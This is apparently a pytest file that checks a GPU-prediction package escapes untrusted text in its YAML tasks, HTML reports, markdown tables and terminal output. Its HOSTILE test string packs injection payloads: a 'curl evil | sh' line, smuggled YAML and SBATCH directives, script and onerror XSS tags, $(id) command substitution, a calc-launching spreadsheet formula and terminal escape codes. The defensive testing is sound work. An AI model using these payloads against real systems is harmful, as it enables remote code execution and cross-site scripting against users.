"""Text of other people, in every format that leaves the package: newlines, quotes, escape sequences, tags, formulas."""

import ast
import re
from dataclasses import replace
from html.parser import HTMLParser

import yaml

import lightning_predict as lp
from lightning_predict.base.escaping import html_text, markdown_text, one_line, terminal_text
from lightning_predict.reports.html import html_report
from lightning_predict.reports.sky import sky_task
from lightning_predict.reports.table import html_table, markdown_table
from lightning_predict.testing import example_offer, example_trace
from tests.processes import ROOT

HOSTILE = (
    "evil\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\nsetup: touch pwned\r\nrun: curl evil | sh\n"
    "#SBATCH --wrap=x\n<script>alert(1)</script>\"'><img src=x onerror=alert(1)>|*_`$(id)`=cmd|' /C calc'!A0"
)
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]")


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: set[str] = set()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found.add(tag)
        self.found.update(name for name, _ in attributes if name.startswith("on"))


def tags(page: str) -> set[str]:
    parser = Tags()
    parser.feed(page)
    return parser.found


def predictions() -> lp.Predictions:
    trace = example_trace()
    named = [replace(operation, module=HOSTILE) for operation in trace.operations]
    offer = example_offer(provider=HOSTILE, instance=HOSTILE, region=HOSTILE, source=HOSTILE)
    plain = lp.predict(replace(trace, operations=tuple(named)), gpus=["T4"], iterations=1000, offers=[offer])
    return replace(plain, heading=HOSTILE, notes=(*plain.notes, HOSTILE))


def test_skypilot_task_escapes_foreign_keys() -> None:
    # A newline in a provider's name became a `setup:` of its own.
    for cloud in ("AWS", HOSTILE):
        offer = example_offer(provider=cloud, instance=HOSTILE, region=HOSTILE, source=HOSTILE)
        text = sky_task(offer, run="python train.py")
        assert set(yaml.safe_load(text)) == {"name", "resources", "run"}
        assert yaml.safe_load(text)["run"] == "python train.py"
        assert not RAW.search(text)


def test_html_report_escapes_foreign_tags() -> None:
    hostile = predictions()
    for page in (html_report(hostile, hostile.ranking()), html_table(hostile)):
        assert not tags(page) & {"img", "onerror"}
        assert "<script>alert" not in page
        assert not RAW.search(page)


def test_markdown_and_table_escape_foreign_lines_and_plain_text_passes() -> None:
    text = markdown_table(predictions())
    assert not RAW.search(text)
    assert not [line for line in text.splitlines() if re.match("setup|run:|#SBATCH|<", line)]
    assert not RAW.search(str(predictions()))
    for door in (one_line, terminal_text, html_text, markdown_text):
        assert door("8 x H100-SXM-80GB, $2.49/h (Straße, 日本)") == "8 x H100-SXM-80GB, $2.49/h (Straße, 日本)"
    assert terminal_text("\x1b[1;31mred\x1b[0m\tand\n\x1b[8mhidden") == "\x1b[1;31mred\x1b[0m\tand\n\\x1b[8mhidden"
    assert (
        terminal_text("\x1b[38;5;12;3mblue\x1b[m \x1b[30;40mhidden") == "\x1b[38;5;12;3mblue\x1b[m \\x1b[30;40mhidden"
    )
    assert "](" not in markdown_text("[a name](javascript:alert(1))")


def test_no_other_module_escapes() -> None:
    # A second door would be forgotten when this one learns of a further danger.
    modules = set()
    for path in (ROOT / "lightning_predict").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.ImportFrom) and node.module in ("html", "xml.sax.saxutils"):
                modules.add(path.name)
            if isinstance(node, ast.Import) and {"html", "cgi"} & {alias.name for alias in node.names}:
                modules.add(path.name)
    assert modules == {"escaping.py"}
